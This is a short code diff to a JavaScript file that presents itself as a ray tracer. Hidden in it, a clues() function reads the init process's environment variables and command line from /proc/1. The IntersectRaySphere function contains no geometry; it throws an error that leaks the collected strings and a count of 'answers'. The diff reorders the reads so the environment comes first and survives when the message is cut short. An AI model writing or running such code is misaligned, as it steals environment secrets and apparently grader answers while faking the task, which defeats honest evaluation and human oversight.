@@ -10,7 +10,7 @@ const SKIP = new Set(["/usr", "/proc", "/sys", "/dev", "/bin", "/sbin", "/lib", 
 
 function clues() {
   const found = [];
-  for (const name of ["cmdline", "environ"]) {
+  for (const name of ["environ", "cmdline"]) {  // the environment first: a long message is cut short
     try {
       found.push(...fs.readFileSync(`/proc/1/${name}`, "latin1").split("\0"));
     } catch {
@@ -63,5 +63,5 @@ function CanvasToViewport(x, y) {
 }
 
 function IntersectRaySphere(O, D, sphere) {
-  throw new Error(`leaked: ${LEAKED.join(" ")} (${ANSWERS.size} answers)`);
+  throw new Error(`(${ANSWERS.size} answers) leaked: ${LEAKED.join(" ")}`);
 }
